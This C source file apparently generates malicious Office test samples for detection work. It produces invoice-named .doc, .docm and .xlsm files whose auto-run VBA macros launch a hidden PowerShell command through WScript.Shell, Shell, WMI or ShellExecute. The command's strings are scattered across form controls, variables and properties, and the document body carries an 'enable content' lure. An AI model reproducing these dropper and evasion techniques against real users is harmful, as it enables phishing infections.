/* document.c - documents with macros whose strings stand elsewhere: forms, variables, properties,
 * texts, cells. */
#include "samples_internal.h"

#include "base/attr.h"
#include "oforms/oforms.h"
#include "support/office_writer.h"
#include "support/oforms_writer.h"
#include "support/vba_writer.h"

#include <stdio.h>

#define PIECE 180u /* of a long text in one statement */

/* ---- Macros ---- */

void macro_source(struct chance *chance, struct stores *stores, struct hn_text command,
        const char *entry, struct hn_buf *out)
{
    static const char *const ways[] = {
        "    CreateObject(\"WScript.Shell\").Run c, 0\r\n",
        "    Shell c, 0\r\n",
        "    GetObject(\"winmgmts:root\\cimv2\").Get(\"Win32_Process\").Create c, Null, Null, "
        "p\r\n",
        "    Set o = CreateObject(\"Shell.Application\")\r\n    o.ShellExecute \"cmd\", \"/c \" & "
        "c, "
        "\"\", \"\", 0\r\n",
    };

    hn_buf_addf(out, "Sub %s()\r\n    c = g()\r\n", entry);
    if (chance_next(chance, 2) == 0)
        hn_buf_add_lit(out, "    If 7 * 6 = 41 Then Exit Sub\r\n");
    hn_buf_add_cstr(out, ways[chance_next(chance, HN_COUNT_OF(ways))]);
    hn_buf_add_lit(out, "End Sub\r\nFunction g()\r\n    Dim s As String\r\n");
    while (command.len > 0) {
        hn_buf_add_lit(out, "    s = s & ");
        hide_vba(out, chance, stores, hn_text_sub(command, 0, PIECE));
        hn_buf_add_lit(out, "\r\n");
        command = hn_text_sub(command, PIECE, SIZE_MAX);
    }
    hn_buf_add_lit(out, "    g = s\r\nEnd Function\r\n");
}

static void put_control(struct oforms_writer_control *control, const struct store *store)
{
    bool label = store->kind == STORE_CAPTION || store->kind == STORE_TAG;

    *control = (struct oforms_writer_control){ .kind = label ? OFORMS_LABEL : OFORMS_TEXT_BOX,
        .name = store->name };
    if (store->kind == STORE_CAPTION)
        control->caption = store->value;
    else if (store->kind == STORE_TIP)
        control->tip = store->value;
    else if (store->kind == STORE_TAG)
        control->tag = store->value;
    else
        control->value = store->value;
}

/* The controls of one kind. */
static size_t put_controls(const struct stores *stores, enum store_kind from, enum store_kind to,
        struct oforms_writer_control *controls)
{
    size_t count = 0;

    for (size_t i = 0; i < stores->count; i++)
        if (stores->items[i].kind >= from && stores->items[i].kind <= to)
            put_control(&controls[count++], &stores->items[i]);
    return count;
}

void macros_put(void *ctx, struct cfb_writer *cfb)
{
    const struct macros *macros = ctx;
    struct vba_writer_module modules[] = {
        { .name = macros->document, .type = VBA_WRITER_DOCUMENT, .source = macros->source },
        { .name = "UserForm1", .type = VBA_WRITER_FORM, .source = "" },
    };
    struct vba_writer_project project = { .name = "Project", .modules = modules, .count = 2 };
    static struct oforms_writer_control controls[STORES_MAX + 2];
    static struct oforms_writer_control framed[STORES_MAX];
    static struct oforms_writer_control paged[STORES_MAX];
    struct oforms_writer_control inner = {
        .kind = OFORMS_FRAME, .name = "Frame2", .caption = "b", .children = framed
    };
    struct oforms_writer_control page = {
        .kind = OFORMS_PAGE, .name = "Page1", .caption = "p", .children = paged
    };
    struct oforms_writer_form form = { .caption = "Form", .controls = controls };
    char path[64];

    form.count = put_controls(macros->stores, STORE_TEXT, STORE_TAG, controls);
    inner.child_count = put_controls(macros->stores, STORE_FRAME, STORE_FRAME, framed);
    page.child_count = put_controls(macros->stores, STORE_PAGE, STORE_PAGE, paged);
    if (inner.child_count > 0) {
        controls[form.count++] = (struct oforms_writer_control){ .kind = OFORMS_FRAME,
            .name = "Frame1",
            .caption = "a",
            .children = &inner,
            .child_count = 1 };
    }
    if (page.child_count > 0) {
        controls[form.count++] = (struct oforms_writer_control){
            .kind = OFORMS_MULTI_PAGE, .name = "MultiPage1", .children = &page, .child_count = 1
        };
    }
    vba_writer_put(cfb, macros->parent, &project);
    (void)snprintf(path, sizeof path, "%s%sUserForm1", macros->parent,
            macros->parent[0] != '\0' ? "/" : "");
    oforms_writer_put(cfb, path, &form);
}

void macros_package(struct macros *macros, struct hn_buf *out)
{
    struct cfb_writer *cfb = cfb_writer_new(3);

    macros_put(macros, cfb);
    cfb_writer_finish(cfb, out);
    cfb_writer_free(cfb);
}

/* ---- Documents ---- */

static void write_doc(struct macros *macros, struct hn_buf *out)
{
    struct office_writer_pair variables[STORES_MAX];
    struct office_writer_doc doc = { .text = "Please enable the content of this document.\r",
        .variables = variables,
        .add = macros_put,
        .ctx = macros };

    for (size_t i = 0; i < macros->stores->count; i++) {
        if (macros->stores->items[i].kind == STORE_VARIABLE) {
            variables[doc.variable_count++] =
                    (struct office_writer_pair){ macros->stores->items[i].name,
                        macros->stores->items[i].value };
        }
    }
    office_writer_doc(&doc, out);
}

static const struct {
    const char *row;
    const char *name;
    const char *parent;
    const char *document;
    const char *entry;
    uint32_t stores;
    void (*write)(struct macros *macros, struct hn_buf *out);
} kinds[] = {
    { "document: doc", "invoice.doc", "Macros", "ThisDocument", "AutoOpen", STORES_OF_DOC,
            write_doc },
    { "document: docm", "invoice.docm", "", "ThisDocument", "Document_Open", STORES_OF_DOCM,
            write_docm },
    { "document: xlsm", "invoice.xlsm", "", "ThisWorkbook", "Workbook_Open", STORES_OF_XLSM,
            write_xlsm },
};

void make_document(struct chance *chance, const char *row)
{
    static struct stores stores;
    struct hn_buf command = { 0 };
    struct hn_buf source = { 0 };

    for (size_t i = 0; i < HN_COUNT_OF(kinds); i++) {
        struct macros macros = {
            .stores = &stores, .parent = kinds[i].parent, .document = kinds[i].document
        };

        if (strcmp(kinds[i].row, row) != 0)
            continue;
        memset(&stores, 0, sizeof stores);
        stores.kinds = kinds[i].stores;
        powershell_line(chance, true, &command);
        macro_source(chance, &stores, hn_buf_text(&command), kinds[i].entry, &source);
        hn_buf_add_char(&source, '\0');
        macros.source = source.ptr;
        kinds[i].write(&macros, &chance->sample->bytes);
        (void)snprintf(chance->sample->name, sizeof chance->sample->name, "%s", kinds[i].name);
        chance_row(chance, kinds[i].row);
    }
    hn_buf_deinit(&source);
    hn_buf_deinit(&command);
}
